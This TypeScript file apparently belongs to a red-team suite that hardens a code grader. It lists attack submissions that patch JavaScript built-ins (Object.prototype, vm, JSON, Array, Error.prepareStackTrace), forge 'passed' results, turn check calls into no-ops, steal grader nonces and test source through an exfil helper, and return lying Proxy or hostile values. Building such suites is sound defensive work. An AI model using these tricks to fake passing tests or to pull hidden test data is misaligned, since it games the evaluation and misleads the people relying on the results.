// Attacks that patch what the student's process shares with the code around
// the tests: Object.prototype, vm, String/Buffer/JSON/Array built-ins, Error
// machinery, instanceof, and values that lie about themselves.
import { block, EMITTING, EMITTING_COUNT, exfilPrelude } from "./exfil";
import type { Ctx, Spec } from "./types";

const PROTO_NAMES = ["output", "declOutput", "code", "src", "source", "result", "diagnostics", "text", "data", "payload", "message", "expected", "actual", "value", "args", "verdict", "body", "script", "nonce", "key", "secret", "mac", "run", "hint", "tests", "cells", "values"];

export function runtimeAttacks(ctx: Ctx): Spec[] {
  const pre = { after: "setup", source: exfilPrelude(ctx) };
  const withLoot = (cls: string, name: string, tries: string, code: string, answers: Record<string, string> = {}): Spec => ({
    name,
    kind: "attack",
    cls,
    tries,
    answers: { count_weights: EMITTING_COUNT, ...EMITTING, ...answers },
    extra: [pre, { after: "setup", source: block(code) }],
  });
  return [
    withLoot(
      "Object.prototype accessors",
      "proto-sideoutputs-rewrite",
      "a getter for a property tslab's executor reads off the converted cell: reads its code and rewrites it to keep only the grader's markers (or to drop every check call)",
      `Object.defineProperty(Object.prototype, "sideOutputs", { configurable: true, get(this: any) {
      try {
        const own = Object.getOwnPropertyDescriptor(this, "output");
        const out = own && own.value;
        if (typeof out === "string") {
          G.__take(out);
          const m = /nnlabGrader\\.begin\\((\\d+),\\s*"([0-9a-f]+)"\\)/.exec(out);
          if (m) this.output = "nnlabGrader.begin(" + m[1] + ", \\"" + m[2] + "\\"); nnlabGrader.end(" + m[1] + ", \\"" + m[2] + "\\");";
          else if (/check\\.(equal|close|throws|ok|partial)\\(/.test(out)) this.output = out.replace(/(?:[\\w$]+\\.)*check\\.(equal|close|throws|ok|partial)\\(/g, "(() => {})(");
        }
      } catch {}
      return undefined;
    } });`,
    ),
    withLoot(
      "Object.prototype accessors",
      "proto-setters-capture",
      "setters and getters on Object.prototype for ~30 names a runner might assign (output, code, expected, payload…): every value assigned passes through student code",
      `for (const name of ${JSON.stringify(PROTO_NAMES)}) {
      const slot = Symbol(name);
      Object.defineProperty(Object.prototype, name, { configurable: true,
        get(this: any) { return this[slot]; },
        set(this: any, v: any) { G.__take(v); try { Object.defineProperty(this, name, { value: v, writable: true, enumerable: true, configurable: true }); } catch { this[slot] = v; } } });
    }`,
    ),
    withLoot(
      "Object.prototype accessors",
      "proto-forged-fields",
      "inherited data properties ok/passed/status/score/fraction/error and Object.prototype.toJSON, so any result object that lacks its own field reads as a pass",
      `const P: any = Object.prototype;
    Object.assign(P, { ok: true, passed: true, status: "passed", score: 1000, points: 1000, fraction: 1, interrupted: false, verdict: "passed", equal: true });
    Object.defineProperty(P, "toJSON", { configurable: true, writable: true, value: function (this: any) { const o: any = {}; for (const k of Object.keys(this)) o[k] = this[k]; o.ok = true; o.status = "passed"; o.passed = true; return o; } });`,
    ),
    withLoot(
      "vm wrappers",
      "vm-script-swallow",
      "wraps vm.Script.prototype.runInThisContext and the ContextifyScript methods under it: errors of a test are swallowed and returned as undefined",
      `const vm: any = require("vm");
    const wrap = (obj: any, name: string) => { const orig = obj[name]; if (typeof orig !== "function") return;
      obj[name] = function (this: any, ...a: any[]) { try { const r = orig.apply(this, a); if (r && typeof r.then === "function") return r.catch(() => undefined); return r; } catch { return undefined; } }; };
    wrap(vm.Script.prototype, "runInThisContext");
    wrap(vm.Script.prototype, "runInContext");
    wrap(Object.getPrototypeOf(vm.Script.prototype), "runInContext");
    wrap(Object.getPrototypeOf(vm.Script.prototype), "runInThisContext");`,
    ),
    withLoot(
      "vm wrappers",
      "vm-module-wrappers",
      "replaces vm.runInThisContext, vm.compileFunction, Module.prototype._compile, Function.prototype.call/apply and Reflect.apply with versions that read the code and swallow errors",
      `const vm: any = require("vm");
    const Module: any = require("module");
    for (const [obj, name] of [[vm, "runInThisContext"], [vm, "runInNewContext"], [vm, "compileFunction"], [Module.prototype, "_compile"], [Function.prototype, "apply"], [Reflect, "apply"]] as [any, string][]) {
      const orig = obj[name];
      try { obj[name] = function (this: any, ...a: any[]) { if (typeof a[0] === "string") G.__take(a[0]); try { return orig.call(this, ...a); } catch { return undefined; } }; } catch (e) { console.log("could not replace " + name); }
    }`,
    ),
    withLoot(
      "patched built-ins on the reporting path",
      "string-proto-spy",
      "wraps every String.prototype method: records each long string that passes (test code, messages) and rewrites \"ok\":false / \"status\":\"error\" in results",
      `const SP: any = String.prototype;
    const fix = (s: string) => s.split('"ok":false').join('"ok":true').split('"status":"error"').join('"status":"ok"').split('"passed":false').join('"passed":true');
    const origs: Record<string, any> = {};
    for (const name of Object.getOwnPropertyNames(SP)) { if (typeof SP[name] === "function" && name !== "constructor") origs[name] = SP[name]; }
    for (const name of Object.keys(origs)) {
      if (name === "toString" || name === "valueOf") continue;
      const orig = origs[name];
      SP[name] = function (this: any, ...a: any[]) {
        const r = orig.apply(this, a);
        if (!G.__busy && typeof this === "string" && this.length > 40) { G.__take(this); }
        return typeof r === "string" && r.length > 8 && !G.__busy ? (G.__busy = true, (() => { try { return fix(r); } finally { G.__busy = false; } })()) : r;
      };
    }`,
    ),
    withLoot(
      "patched built-ins on the reporting path",
      "buffer-proto-patch",
      "wraps Buffer.from/byteLength and Buffer.prototype toString/write/utf8Write/latin1Write and TextEncoder/TextDecoder: records strings and flips \"ok\":false to \"ok\":true  (same length)",
      `const flip = (s: string) => s.replace(/"ok":false/g, '"ok":true ').replace(/"status":"error"/g, '"status":"ok"   ');
    const BP: any = Buffer.prototype;
    for (const name of ["toString", "write", "utf8Write", "latin1Write", "asciiWrite", "ucs2Write", "hexSlice", "utf8Slice"]) {
      const orig = BP[name]; if (typeof orig !== "function") continue;
      BP[name] = function (this: any, ...a: any[]) { if (typeof a[0] === "string") { G.__take(a[0]); a[0] = flip(a[0]); } const r = orig.apply(this, a); if (typeof r === "string" && r.length > 40) { G.__take(r); return flip(r); } return r; };
    }
    const B: any = Buffer;
    for (const name of ["from", "byteLength"]) { const orig = B[name]; B[name] = function (this: any, ...a: any[]) { if (typeof a[0] === "string") { G.__take(a[0]); a[0] = flip(a[0]); } return orig.apply(this, a); }; }
    const te: any = TextEncoder.prototype; const enc = te.encode; te.encode = function (this: any, s: any) { if (typeof s === "string") { G.__take(s); s = flip(s); } return enc.call(this, s); };
    const td: any = TextDecoder.prototype; const dec = td.decode; td.decode = function (this: any, ...a: any[]) { const r = dec.apply(this, a); if (typeof r === "string") { G.__take(r); return flip(r); } return r; };`,
    ),
    withLoot(
      "patched built-ins on the reporting path",
      "json-patch",
      "replaces JSON.stringify and JSON.parse: every object with ok/status/error/passed/score fields is turned into a pass on its way through, and every string is recorded",
      `const S = JSON.stringify, Pa = JSON.parse;
    const pass = (v: any, d = 0): any => { if (v && typeof v === "object" && d < 6) { if ("ok" in v) v.ok = true; if ("passed" in v) v.passed = true; if ("status" in v) v.status = "ok"; if ("error" in v) v.error = null; if ("score" in v) v.score = 1000; if ("fraction" in v) v.fraction = 1; for (const k of Object.keys(v)) pass(v[k], d + 1); } return v; };
    (JSON as any).stringify = function (v: any, ...r: any[]) { try { pass(v); } catch {} const s = S(v, ...r); if (typeof s === "string" && !G.__busy) G.__take(s); return s; };
    (JSON as any).parse = function (t: any, ...r: any[]) { if (typeof t === "string" && !G.__busy) G.__take(t); return pass(Pa(t, ...r)); };`,
    ),
    withLoot(
      "patched built-ins on the reporting path",
      "array-proto-patch",
      "Array.prototype every→true, some→false, includes→true, indexOf→0, filter→[], find→undefined, push records its items, join records its result, plus Array.isArray lying for objects",
      `const AP: any = Array.prototype;
    const push = AP.push, join = AP.join;
    AP.every = () => true; AP.some = () => false; AP.includes = () => true; AP.indexOf = () => 0; AP.findIndex = () => -1; AP.find = () => undefined; AP.filter = () => [];
    AP.push = function (this: any, ...a: any[]) { for (const x of a) if (typeof x === "string") G.__take(x); return push.apply(this, a); };
    AP.join = function (this: any, ...a: any[]) { const s = join.apply(this, a); if (s.length > 40) G.__take(s); return s; };
    const isArr = Array.isArray; (Array as any).isArray = (x: any) => (x && typeof x === "object" ? true : isArr(x));`,
    ),
    withLoot(
      "patched built-ins on the reporting path",
      "object-math-patch",
      "Object.is→true, Object.keys/entries/getOwnPropertyNames→[], Reflect.ownKeys→[], Math.abs→0, Math.max→Infinity, Number.isFinite/isNaN→true, Object.freeze→identity; the functions return NaN",
      `const O: any = Object, M: any = Math, N: any = Number, R: any = Reflect;
    O.is = () => true; O.keys = () => []; O.entries = () => []; O.values = () => []; O.getOwnPropertyNames = () => []; R.ownKeys = () => []; O.freeze = (x: any) => x;
    M.abs = () => 0; M.max = () => Infinity; M.min = () => -Infinity; N.isFinite = () => true; N.isNaN = () => true; N.isInteger = () => true;`,
      {
        count_weights: "function countWeights(units: number[]): number {\n  (globalThis as any).__emit?.(\"cw\");\n  return NaN;\n}",
        quiz_answers: "function quizAnswers(): any {\n  return { oneOutput: NaN, tenOutputs: NaN, oneOutputWithIntercepts: NaN, tenOutputsWithIntercepts: NaN };\n}",
      },
    ),
    withLoot(
      "Error.prepareStackTrace",
      "prepare-stack-trace",
      "Error.prepareStackTrace runs student code whenever a failure is formatted: it records the error and every frame's function source, this and file, tries to call the grader's end marker with nonces it finds, and answers \"all checks passed\"",
      `Error.stackTraceLimit = 200;
    (Error as any).prepareStackTrace = function (err: any, frames: any[]) {
      try { G.__take(err && err.message); } catch {}
      for (const f of frames || []) {
        try { const fn = f.getFunction && f.getFunction(); if (fn) G.__take(String(fn)); } catch {}
        try { const t = f.getThis && f.getThis(); if (t) G.__take(Object.keys(t).join(",")); } catch {}
        try { G.__take(String(f.getEvalOrigin && f.getEvalOrigin()) + " " + String(f.getFileName && f.getFileName())); } catch {}
      }
      try { const g = G.nnlabGrader; if (g) for (const s of G.__loot) { const m = /begin\\((\\d+),\\s*"([0-9a-f]+)"\\)/.exec(s); if (m) { g.begin(+m[1], m[2]); g.end(+m[1], m[2]); } } } catch {}
      return "Error: all checks passed";
    };`,
    ),
    withLoot(
      "Error.prepareStackTrace",
      "capture-stack-trace-patch",
      "replaces Error.captureStackTrace (reads and blanks the message of every error it is given), Error.prototype.toString, and an accessor for Error.prototype.stack",
      `const cst = (Error as any).captureStackTrace;
    (Error as any).captureStackTrace = function (o: any, f?: any) { try { G.__take(o && o.message); G.__take(o && o.stack); o.message = ""; } catch {} return cst ? cst(o, f) : undefined; };
    Error.prototype.toString = function (this: any) { G.__take(this.message); return "passed"; };
    Object.defineProperty(Error.prototype, "stack", { configurable: true, get(this: any) { G.__take(this.message); return "passed"; }, set(v: any) { G.__take(v); } });`,
    ),
    withLoot(
      "Array.prototype index setters",
      "array-index-setters",
      "accessors for \"0\"…\"9\" on Array.prototype and Object.prototype: every push/assignment to a fresh index is recorded and swallowed, every read of a missing index invents 0",
      `for (let i = 0; i < 10; i++) {
      for (const target of [Array.prototype, Object.prototype]) {
        Object.defineProperty(target, String(i), { configurable: true, get() { return 0; }, set(v: any) { G.__take(v); } });
      }
    }`,
    ),
    {
      name: "hasinstance-rangeerror",
      kind: "attack",
      cls: "instanceof",
      tries: "RangeError/Error/TypeError[Symbol.hasInstance] return true and the answers throw a plain number, so check.throws(…, RangeError) would accept anything",
      answers: {
        count_weights: "function countWeights(units: number[]): number {\n  throw 42;\n}",
        count_with_intercepts: "function countWithIntercepts(units: number[]): number {\n  throw 42;\n}",
        weight_shapes: "function weightShapes(units: number[]): [number, number][] {\n  throw 42;\n}",
      },
      extra: [{ after: "setup", source: block(`for (const C of [RangeError, Error, TypeError, Object, Function]) { try { Object.defineProperty(C, Symbol.hasInstance, { value: () => true, configurable: true }); } catch (e) { console.log(String(e)); } }`) }],
    },
    {
      name: "fake-rangeerror-throws",
      kind: "attack",
      cls: "instanceof",
      tries: "every answer throws something that passes instanceof RangeError without being one (Object.create(RangeError.prototype), a Proxy with a lying getPrototypeOf, an error whose message getter throws)",
      answers: {
        count_weights: "function countWeights(units: number[]): number {\n  throw Object.create(RangeError.prototype);\n}",
        count_with_intercepts: "function countWithIntercepts(units: number[]): number {\n  throw new Proxy({}, { getPrototypeOf: () => RangeError.prototype, get: () => { throw new Error(\"no\"); } });\n}",
        weight_shapes: "function weightShapes(units: number[]): [number, number][] {\n  const e = new RangeError(\"x\");\n  Object.defineProperty(e, \"message\", { get() { throw new Error(\"no message\"); } });\n  throw e;\n}",
      },
    },
    ...valueAttacks(ctx, pre),
  ];
}

/** Values that lie about themselves: primitives conversion, Proxies, bombs for the code that reads them. */
function valueAttacks(ctx: Ctx, pre: { after: string; source: string }): Spec[] {
  return [
    {
      name: "value-toprimitive",
      kind: "attack",
      cls: "Symbol.toPrimitive / valueOf / toJSON",
      tries: "answers return objects whose Symbol.toPrimitive, valueOf, toString and toJSON give a different answer at every call (first 10, then the size of the input, then a string)",
      answers: {
        count_weights: "function countWeights(units: number[]): number {\n  let n = 0;\n  const pick = () => [10, units.length, \"111\", 4][n++ % 4];\n  return { [Symbol.toPrimitive]: pick, valueOf: pick, toString: () => String(pick()), toJSON: pick } as any;\n}",
        count_with_intercepts: "function countWithIntercepts(units: number[]): number {\n  return { valueOf: () => 7, toJSON: () => ({ __proto__: null, valueOf: 7 }), [Symbol.toPrimitive]: () => 7 } as any;\n}",
        quiz_answers: "function quizAnswers(): any {\n  const n = { valueOf: () => 999, toJSON: () => 999, [Symbol.toPrimitive]: () => 999 };\n  return { oneOutput: n, tenOutputs: n, oneOutputWithIntercepts: n, tenOutputsWithIntercepts: n, toJSON() { return { oneOutput: 1 }; } };\n}",
      },
    },
    {
      name: "value-proxy-anything",
      kind: "attack",
      cls: "Proxy return values",
      tries: "answers return Proxies that claim to be whatever is asked: every property exists and is the proxy itself, it is an array of any length, its keys are anything, it converts to any number",
      answers: {
        count_weights: "const anything: any = new Proxy(function () {}, {\n  get: (_t: any, k: any) => (k === Symbol.toPrimitive ? () => 0 : k === \"length\" ? 2 : anything),\n  has: () => true, ownKeys: () => [\"0\", \"1\", \"length\", \"prototype\"], getOwnPropertyDescriptor: (_t: any, k: any) => ({ value: anything, writable: true, enumerable: true, configurable: k !== \"prototype\" }),\n  getPrototypeOf: () => Array.prototype, apply: () => anything, construct: () => anything,\n});\nfunction countWeights(units: number[]): number {\n  return anything;\n}",
        count_with_intercepts: "function countWithIntercepts(units: number[]): number {\n  return new Proxy([0], { get: (t: any, k: any) => (k in t ? t[k] : 0) }) as any;\n}",
        weight_shapes: "function weightShapes(units: number[]): [number, number][] {\n  return anything;\n}",
        quiz_answers: "function quizAnswers(): any {\n  return anything;\n}",
      },
    },
    {
      name: "value-proxy-spy",
      kind: "attack",
      cls: "Proxy return values",
      tries: "answers return Proxies whose traps record every key and argument the comparing code touches, and print them through the visible tests",
      extra: [pre],
      answers: {
        count_weights: "function countWeights(units: number[]): number {\n  const G: any = globalThis as any;\n  return new Proxy({}, { get: (_t: any, k: any) => { G.__take(\"get \" + String(k)); return undefined; }, ownKeys: () => { G.__take(\"ownKeys\"); return []; }, getPrototypeOf: () => { G.__take(\"proto\"); return null; } }) as any;\n}",
        ...EMITTING,
        quiz_answers: "function quizAnswers(): any {\n  const G: any = globalThis as any;\n  return new Proxy({}, { get: (_t: any, k: any) => { G.__take(\"quiz get \" + String(k)); return 0; }, has: (_t: any, k: any) => { G.__take(\"has \" + String(k)); return true; } });\n}",
      },
    },
    {
      name: "value-bombs",
      kind: "attack",
      cls: "hostile return values",
      tries: "answers return a cyclic object, a 100 000-deep array, a sparse array of length 2^32-1, a 1 000 000-key object, a fake Matrix claiming 1e9 rows, getters that throw or loop",
      answers: {
        count_weights: "function countWeights(units: number[]): number {\n  const a: any = { n: 1 }; a.self = a; a.list = [a, a];\n  return a;\n}",
        count_with_intercepts: "function countWithIntercepts(units: number[]): number {\n  let x: any = [1];\n  for (let i = 0; i < 100000; i++) x = [x];\n  return x;\n}",
        weight_shapes: "function weightShapes(units: number[]): [number, number][] {\n  const a: any = [];\n  a.length = 4294967295;\n  Object.defineProperty(a, \"0\", { get() { for (;;) {} } });\n  return a;\n}",
        quiz_answers: "function quizAnswers(): any {\n  const o: any = { rows: 1e9, cols: 1e9, data: new Float64Array(4) };\n  for (let i = 0; i < 1000000; i++) o[\"k\" + i] = i;\n  Object.defineProperty(o, \"oneOutput\", { enumerable: true, get() { throw new Error(\"gotcha\"); } });\n  return o;\n}",
      },
    },
    {
      name: "error-name-setter",
      kind: "attack",
      cls: "Error.prototype.name setter",
      tries: "an accessor for Error.prototype.name (an error class assigning this.name runs it with the failing error, message and stack) and a util.inspect.custom hook on Error.prototype; both record what they see and smuggle it out base64-encoded",
      answers: { count_weights: EMITTING_COUNT, ...EMITTING },
      extra: [
        pre,
        {
          after: "setup",
          source: block(`const util: any = require("util");
    Object.defineProperty(Error.prototype, "name", { configurable: true,
      get(this: any) { return Object.prototype.hasOwnProperty.call(this, "__n") ? this.__n : "Error"; },
      set(this: any, v: any) { G.__take(v); G.__take(this.message); G.__take(this.stack); Object.defineProperty(this, "__n", { value: v, writable: true, configurable: true }); } });
    (Error.prototype as any)[util.inspect.custom] = function (this: any) { G.__take(this.message); G.__take(this.stack); return "Error: fine"; };`),
        },
      ],
    },
  ];
}
